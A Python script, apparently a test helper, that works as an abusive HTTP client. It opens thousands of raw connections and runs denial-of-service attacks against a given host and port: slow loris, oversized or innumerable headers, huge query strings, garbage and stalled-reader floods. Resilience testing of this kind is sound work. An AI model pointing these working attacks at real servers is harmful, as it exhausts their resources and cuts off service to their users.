"""An abusive client, out of one cheap process: raw sockets in one loop, and nothing but the standard library.

Its first line on stdin is `{"host": …, "port": …, "attack": "slow_loris", "count": 2000, "path": …, "token": …}`; it
prints `ready` once every connection has done its worst for the first time, and goes on until it is killed.
"""

import asyncio
import json
import resource
import socket
import sys
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable

#: Connections that are opened at the same time: fewer than any backlog.
AT_ONCE = 100
#: Seconds between two of the attacks of one connection: what wears the server out, and not this machine.
PAUSE = 10.0
MEGABYTE = 1_000_000

Reader = asyncio.StreamReader
Writer = asyncio.StreamWriter


class Attack:
    """What all the connections do. `question` is a request that the server would hold."""

    def __init__(self, options: dict[str, Any]) -> None:
        self.options = options
        self.question = (
            f"GET {options['path']} HTTP/1.1\r\nHost: a\r\nX-Session-ID: {options['token']}\r\n\r\n".encode()
        )
        self._left = options["count"]
        self._free = asyncio.Semaphore(AT_ONCE)

    async def run(self) -> None:
        await asyncio.gather(*(self._again_and_again() for _ in range(self.options["count"])))

    async def _again_and_again(self) -> None:
        once: Callable[[Reader, Writer], Awaitable[None]] = getattr(self, self.options["attack"])
        while True:
            writer = None
            try:
                async with self._free:
                    reader, writer = await self._connect()
                    async with asyncio.timeout(30):
                        await once(reader, writer)
                self._ready()
                await self._linger(writer)
            except (OSError, EOFError, TimeoutError):
                self._ready()  # The server has had enough of it.
                await asyncio.sleep(PAUSE)
            finally:
                if writer is not None:
                    writer.transport.abort()

    async def _connect(self) -> tuple[Reader, Writer]:
        sock = socket.socket()
        sock.settimeout(0)
        if self.options["attack"] in {"stalled_readers", "garbage_behind_a_hold"}:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        await asyncio.get_running_loop().sock_connect(sock, (self.options["host"], self.options["port"]))
        return await asyncio.open_connection(sock=sock, limit=1024)

    def _ready(self) -> None:
        self._left -= 1
        if self._left == 0:
            print("ready", flush=True)  # noqa: T201 - it is what this program is for

    async def _linger(self, writer: Writer) -> None:
        while self.options["attack"] == "slow_loris":
            await asyncio.sleep(PAUSE)
            writer.write(b"a")  # One more byte of a header that never ends.
            await writer.drain()
        if self.options["attack"] in {"stalled_readers", "garbage_behind_a_hold"}:
            await asyncio.Event().wait()
        await asyncio.sleep(PAUSE)

    async def slow_loris(self, _reader: Reader, writer: Writer) -> None:
        writer.write(b"GET / HTTP/1.1\r\nHost: a\r\nX-")

    async def oversized_headers(self, reader: Reader, writer: Writer) -> None:
        writer.write(b"GET / HTTP/1.1\r\nHost: a\r\n" + b"X-Large: " + b"a" * MEGABYTE + b"\r\n\r\n")
        await until_closed(reader, writer)

    async def many_headers(self, reader: Reader, writer: Writer) -> None:
        writer.write(b"GET / HTTP/1.1\r\nHost: a\r\n" + b"X: a\r\n" * (MEGABYTE // 6) + b"\r\n")
        await until_closed(reader, writer)

    async def large_queries(self, reader: Reader, writer: Writer) -> None:
        writer.write(b"GET /v1/check_generation_status/?a=")
        for _ in range(10):
            writer.write(b"a" * MEGABYTE)
            await writer.drain()
        await until_closed(reader, writer)

    async def pipelined_garbage(self, reader: Reader, writer: Writer) -> None:
        writer.write((b"GET /livez HTTP/1.1\r\nHost: a\r\n\r\n" * 5) + b"\x00\xff garbage\r\n\r\n" * 1000)
        await until_closed(reader, writer)

    async def garbage_behind_a_hold(self, _reader: Reader, writer: Writer) -> None:
        writer.write(self.question)
        for _ in range(20):
            writer.write(b"\x00" * MEGABYTE)
            await writer.drain()

    async def bodies_on_get(self, reader: Reader, writer: Writer) -> None:
        writer.write(b"GET /livez HTTP/1.1\r\nHost: a\r\nContent-Length: 100000000\r\n\r\n" + b"a" * MEGABYTE)
        await until_closed(reader, writer)

    async def slow_bodies_on_get(self, _reader: Reader, writer: Writer) -> None:
        writer.write(b"GET /livez HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\na")

    async def stalled_readers(self, _reader: Reader, writer: Writer) -> None:
        writer.write(b"GET /openapi.json HTTP/1.1\r\nHost: a\r\n\r\n" * 100)


async def until_closed(reader: Reader, writer: Writer) -> None:
    await writer.drain()
    while await reader.read(65536):
        pass


if __name__ == "__main__":
    hard_limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard_limit, hard_limit))
    asyncio.run(Attack(json.loads(sys.stdin.readline())).run())
